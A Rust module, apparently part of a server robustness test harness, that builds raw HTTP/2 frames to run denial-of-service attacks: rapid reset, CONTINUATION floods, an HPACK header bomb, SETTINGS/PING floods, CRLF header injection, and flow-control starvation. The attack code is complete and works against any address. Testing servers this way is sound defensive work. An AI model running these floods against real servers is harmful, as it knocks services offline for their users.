//! Attacks with HTTP/2 frames that no library would send.

use std::io::{self, Read, Write};
use std::net::{Shutdown, SocketAddr, TcpStream};
use std::thread;
use std::time::{Duration, Instant};

/// The first bytes of every HTTP/2 connection.
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

// Frame types (RFC 9113, section 6).
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;

// Frame flags.
const ACK: u8 = 1;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// The identifier of this setting in a SETTINGS frame.
const INITIAL_WINDOW_SIZE: [u8; 2] = [0, 4];

/// The default maximum size of a frame's payload.
const MAX_PAYLOAD: usize = 16 * 1024;

/// Returns the HPACK header block of `GET /.well-known/oauth-authorization-server`, with names from
/// the static table and without Huffman coding.
fn request_header_block() -> Vec<u8> {
    let path = b"/.well-known/oauth-authorization-server";
    let mut block = vec![0x82, 0x86, 0x04];
    block.extend(encode_hpack_string(path));
    block.push(0x01);
    block.extend(encode_hpack_string(b"a"));
    block
}

/// Encodes a string of up to 126 bytes for HPACK.
fn encode_hpack_string(bytes: &[u8]) -> Vec<u8> {
    let length = u8::try_from(bytes.len()).unwrap_or(0x7e);
    [&[length], bytes].concat()
}

fn encode_frame(frame_type: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(u32::MAX);
    let mut frame = length.to_be_bytes()[1..].to_vec();
    frame.extend([frame_type, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// Opens a connection and sends the preface and `settings`.
fn connect(address: SocketAddr, settings: &[u8]) -> io::Result<TcpStream> {
    let mut stream = TcpStream::connect(address)?;
    stream.set_write_timeout(Some(Duration::from_secs(1)))?;
    stream.write_all(PREFACE)?;
    stream.write_all(&encode_frame(SETTINGS, 0, 0, settings))?;
    Ok(stream)
}

/// Opens streams and resets each of them immediately.
pub(crate) fn rapid_reset(address: SocketAddr) -> io::Result<TcpStream> {
    let mut stream = connect(address, &[])?;
    for batch in 0..1000_u32 {
        let mut frames = vec![];
        for id in 0..100 {
            let id = 2 * (batch * 100 + id) + 1;
            frames.extend(encode_frame(
                HEADERS,
                END_STREAM | END_HEADERS,
                id,
                &request_header_block(),
            ));
            frames.extend(encode_frame(RST_STREAM, 0, id, &8_u32.to_be_bytes()));
        }
        if stream.write_all(&frames).is_err() {
            break;
        }
    }
    Ok(stream)
}

/// Sends headers that never end.
pub(crate) fn continuation_flood(address: SocketAddr) -> io::Result<TcpStream> {
    let mut stream = connect(address, &[])?;
    stream.write_all(&encode_frame(HEADERS, END_STREAM, 1, &request_header_block()))?;
    let mut block = vec![];
    while block.len() + 128 < MAX_PAYLOAD {
        block.push(0x00);
        block.extend(encode_hpack_string(b"name"));
        block.extend(encode_hpack_string(&[b'v'; 100]));
    }
    let frame = encode_frame(CONTINUATION, 0, 1, &block);
    for _ in 0..4096 {
        if stream.write_all(&frame).is_err() {
            break;
        }
    }
    Ok(stream)
}

/// Sends empty CONTINUATION frames, which carry no headers.
pub(crate) fn empty_continuations(address: SocketAddr) -> io::Result<TcpStream> {
    let mut stream = connect(address, &[])?;
    stream.write_all(&encode_frame(HEADERS, END_STREAM, 1, &request_header_block()))?;
    let frames = encode_frame(CONTINUATION, 0, 1, &[]).repeat(1000);
    for _ in 0..1000 {
        if stream.write_all(&frames).is_err() {
            break;
        }
    }
    Ok(stream)
}

/// Stores a long header in HPACK's dynamic table and refers to it thousands of times.
pub(crate) fn header_bomb(address: SocketAddr) -> io::Result<TcpStream> {
    let mut stream = connect(address, &[])?;
    let mut block = request_header_block();
    // Literal with incremental indexing; the length of 3000 needs three bytes.
    block.push(0x40);
    block.extend(encode_hpack_string(b"name"));
    block.extend([0x7f, 0xb9, 0x16]);
    block.extend([b'v'; 3000]);
    // The newest entry of the dynamic table.
    block.resize(MAX_PAYLOAD, 0x80 | 0x3e);
    for id in 0..1000 {
        let frame = encode_frame(HEADERS, END_STREAM | END_HEADERS, 2 * id + 1, &block);
        if stream.write_all(&frame).is_err() {
            break;
        }
    }
    Ok(stream)
}

/// Sends settings and pings, and never reads their acknowledgements.
pub(crate) fn settings_flood(address: SocketAddr) -> io::Result<TcpStream> {
    let mut stream = connect(address, &[])?;
    let mut frames = encode_frame(SETTINGS, 0, 0, &[]);
    frames.extend(encode_frame(PING, 0, 0, &[7; 8]));
    let frames = frames.repeat(1000);
    for _ in 0..1000 {
        if stream.write_all(&frames).is_err() {
            break;
        }
    }
    Ok(stream)
}

/// Sends line breaks in the value of a header.
pub(crate) fn line_breaks_in_headers(address: SocketAddr) -> io::Result<TcpStream> {
    let mut stream = connect(address, &[])?;
    let mut block = request_header_block();
    block.push(0x00);
    block.extend(encode_hpack_string(b"name"));
    block.extend(encode_hpack_string(b"a\r\nx-forwarded-for: 192.0.2.1"));
    for id in 0..100 {
        let frame = encode_frame(HEADERS, END_STREAM | END_HEADERS, 2 * id + 1, &block);
        if stream.write_all(&frame).is_err() {
            break;
        }
    }
    Ok(stream)
}

/// Requests responses and grants no window for them, but responds to pings.
pub(crate) fn zero_window(address: SocketAddr) -> io::Result<TcpStream> {
    let settings = [&INITIAL_WINDOW_SIZE[..], &0_u32.to_be_bytes()].concat();
    let mut stream = connect(address, &settings)?;
    for id in 0..200 {
        stream.write_all(&encode_frame(
            HEADERS,
            END_STREAM | END_HEADERS,
            2 * id + 1,
            &request_header_block(),
        ))?;
    }
    let acknowledge = |stream: &mut TcpStream, payload: &[u8]| {
        stream.write_all(&encode_frame(PING, ACK, 0, payload)).is_ok()
    };
    stream.set_read_timeout(Some(Duration::from_secs(1)))?;
    let start = Instant::now();
    while start.elapsed() < Duration::from_secs(90) {
        let mut head = [0; 9];
        match stream.read_exact(&mut head) {
            Ok(()) => {}
            Err(error) if is_timeout(&error) => continue,
            Err(_) => break,
        }
        let length = u32::from_be_bytes([0, head[0], head[1], head[2]]);
        let mut payload = vec![0; length as usize];
        if stream.read_exact(&mut payload).is_err() {
            break;
        }
        if head[3] == PING && head[4] & ACK == 0 && !acknowledge(&mut stream, &payload) {
            break;
        }
    }
    Ok(stream)
}

/// Requests responses over all streams and reads nothing.
pub(crate) fn unread_responses(address: SocketAddr) -> io::Result<TcpStream> {
    let settings = [&INITIAL_WINDOW_SIZE[..], &0x7fff_ffff_u32.to_be_bytes()].concat();
    let mut stream = connect(address, &settings)?;
    for id in 0..5000 {
        let frame =
            encode_frame(HEADERS, END_STREAM | END_HEADERS, 2 * id + 1, &request_header_block());
        if stream.write_all(&frame).is_err() {
            break;
        }
    }
    wait_without_reading(&mut stream);
    Ok(stream)
}

/// Waits until the connection is closed, at most for 30 seconds, without reading from it. Writes
/// fail as soon as it is closed.
pub(crate) fn wait_without_reading(stream: &mut TcpStream) {
    let start = Instant::now();
    while start.elapsed() < Duration::from_secs(90) {
        match stream.write(&[0]) {
            Ok(_) => thread::sleep(Duration::from_millis(100)),
            Err(error) if is_timeout(&error) => {}
            Err(_) => return,
        }
    }
}

/// Returns whether the server closes the connection within `timeout`. Everything that it sends
/// before is read and ignored.
pub(crate) fn is_closed_within(mut stream: TcpStream, timeout: Duration) -> io::Result<bool> {
    let start = Instant::now();
    stream.set_read_timeout(Some(Duration::from_millis(200)))?;
    let mut buffer = vec![0; 64 * 1024];
    while start.elapsed() < timeout {
        match stream.read(&mut buffer) {
            Ok(0) => return Ok(true),
            Ok(_) => {}
            Err(error) if is_timeout(&error) => {}
            Err(_) => return Ok(true),
        }
    }
    // Closes the connection from this side.
    let _ = stream.shutdown(Shutdown::Both);
    Ok(false)
}

fn is_timeout(error: &io::Error) -> bool {
    matches!(error.kind(), io::ErrorKind::WouldBlock | io::ErrorKind::TimedOut)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_frame_has_a_length_of_three_bytes() {
        assert_eq!(encode_frame(PING, ACK, 5, &[9, 9]), [0, 0, 2, 6, 1, 0, 0, 0, 5, 9, 9]);
    }

    #[test]
    fn request_headers_are_four_pseudo_headers() {
        assert_eq!(request_header_block()[..4], [0x82, 0x86, 0x04, 39]);
        assert_eq!(request_header_block()[43..], [0x01, 1, b'a']);
    }
}
